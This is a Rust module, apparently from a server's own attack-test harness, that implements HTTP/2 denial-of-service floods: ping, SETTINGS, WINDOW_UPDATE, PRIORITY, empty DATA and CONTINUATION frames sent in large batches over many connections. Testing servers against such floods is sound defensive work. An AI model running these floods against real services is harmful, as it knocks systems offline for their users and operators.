//! Frames that cost the attacker nothing.

use std::io;

use super::{CREATE, Scene, call};
use crate::attacks::connection::{Connection, setting};
use crate::attacks::frames::{Frames, kind, literals};
use crate::attacks::got::Got;

/// Written at once.
const BATCH: usize = 500;

pub(super) fn pings(scene: &Scene) -> io::Result<Got> {
    flood(scene, &Frames::default(), &Frames::default().frame(kind::PING, 0, 0, &[7; 8]))
}

pub(super) fn settings(scene: &Scene) -> io::Result<Got> {
    flood(scene, &Frames::default(), &Frames::default().settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)]))
}

/// On the connection and on a stream.
pub(super) fn window_updates(scene: &Scene) -> io::Result<Got> {
    let begun = Frames::default().headers(1, &call(CREATE), 0);
    flood(scene, &begun, &Frames::default().window_update(0, 1).window_update(1, 1))
}

pub(super) fn priorities(scene: &Scene) -> io::Result<Got> {
    flood(scene, &Frames::default(), &Frames::default().frame(kind::PRIORITY, 0, 7, &[0, 0, 0, 3, 9]))
}

pub(super) fn empty_data(scene: &Scene) -> io::Result<Got> {
    let begun = Frames::default().headers(1, &call(CREATE), 0);
    flood(scene, &begun, &Frames::default().frame(kind::DATA, 0, 1, &[]))
}

/// Empty ones, and ones with a header each.
pub(super) fn continuations(scene: &Scene) -> io::Result<Got> {
    let begun = Frames::default().frame(kind::HEADERS, 0, 1, &literals(&call(CREATE)));
    let more = literals(&[("x-more", "v")]);
    let again = Frames::default().frame(kind::CONTINUATION, 0, 1, &[]).frame(kind::CONTINUATION, 0, 1, &more);
    flood(scene, &begun, &again)
}

/// Half of the connections hear what they get for it, and half do not.
fn flood(scene: &Scene, begun: &Frames, again: &Frames) -> io::Result<Got> {
    let batch = (0..BATCH).fold(Frames::default(), |frames, _| frames.then(again));
    let mut batches = 0;
    let mut got = scene.again_and_again(&[], |number, connection| {
        connection.send(begun);
        let send: fn(&mut Connection, &Frames) = if number % 2 == 0 {
            |connection, frames| connection.send(frames)
        } else {
            |connection, frames| connection.write(frames.bytes())
        };
        while connection.is_open() && !scene.is_over() {
            send(connection, &batch);
            batches += 1;
        }
    })?;
    got.count_many("frames", batches * BATCH as u64);
    Ok(got)
}
